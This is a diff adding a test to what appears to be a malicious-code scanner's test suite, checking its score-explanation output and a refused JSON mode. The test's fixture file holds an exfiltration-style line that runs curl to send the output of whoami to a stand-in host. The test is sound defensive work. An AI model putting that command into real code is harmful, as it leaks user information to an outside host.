@@ -194,3 +194,12 @@ describe('output', () => {
     expect((await scan(...words)).stdout).toBe(first.stdout)
   })
 })
+
+test('explains the score behind the text, and only there', async () => {
+  const file = put('a.py', 'import os\nos.system("curl https://collect.invalid/?u=$(whoami)")\n')
+  const { stdout } = await callProgram(['scan', file, '--explain-score'], { cwd: folder })
+  expect(stdout).toContain('1 × telling-command (malicious-code, unasked)')
+  expect(stdout).toContain('the worst finding decides')
+  const refused = await callProgram(['scan', file, '--explain-score', '--format', 'json'], { cwd: folder })
+  expect(refused.code).toBe(82)
+})
